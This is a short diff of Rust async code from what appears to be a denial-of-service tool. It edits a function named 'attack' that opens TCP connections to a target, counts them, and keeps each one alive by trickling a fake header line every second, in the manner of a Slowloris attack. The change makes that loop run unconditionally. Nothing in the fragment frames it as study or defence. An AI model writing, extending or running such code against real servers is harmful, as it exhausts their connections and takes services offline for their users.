@@ -93,8 +93,8 @@ async fn attack(place: usize, to: SocketAddr, seen: Arc<Seen>) {
         match connect(from, to).await {
             Ok(mut stream) => {
                 seen.opened.fetch_add(1, Ordering::Relaxed);
-                let open = stream.write_all(opening.as_bytes()).await.is_ok();
-                while open {
+                let _ = stream.write_all(opening.as_bytes()).await;
+                loop {
                     tokio::time::sleep(Duration::from_secs(1)).await;
                     let more = match place % 3 {
                         0 => stream.write_all(b"x: y\r\n").await.is_ok(),
